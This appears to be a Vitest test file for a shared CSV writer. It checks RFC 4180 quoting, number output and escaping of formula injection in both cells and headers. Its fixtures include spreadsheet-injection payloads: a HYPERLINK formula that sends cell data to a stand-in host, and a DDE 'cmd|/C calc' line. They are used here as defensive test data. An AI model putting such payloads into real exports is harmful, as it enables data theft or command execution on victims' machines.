import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../shared/formats/csv.ts';

describe('the one CSV writer', () => {
  it('quotes commas, quotes and line breaks the RFC 4180 way, with CRLF line ends', () => {
    expect(toCsv(['when', 'note'], [['2025-01-01', 'said "sorry", then'], ['2025-01-02', 'two\nlines'], [null, 3]])).toBe(
      'when,note\r\n2025-01-01,"said ""sorry"", then"\r\n2025-01-02,"two\nlines"\r\n,3\r\n',
    );
  });

  it.each([
    ['=HYPERLINK("https://example.com?d="&A1)', `"'=HYPERLINK(""https://example.com?d=""&A1)"`],
    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('opens %j as text in a spreadsheet, not as a formula', (text, written) => {
    expect(toCsv(['note'], [[text]])).toBe(`note\r\n${written}\r\n`);
  });

  it('writes numbers as numbers (negative ones too) and leaves values that are not numbers empty', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[-4.5, 781.25, Number.NaN, Number.POSITIVE_INFINITY]])).toBe('a,b,c,d\r\n-4.5,781.25,,\r\n');
  });

  it('guards the header row as well, since a header can come from data', () => {
    expect(toCsv(['=cmd'], [])).toBe("'=cmd\r\n");
  });
});
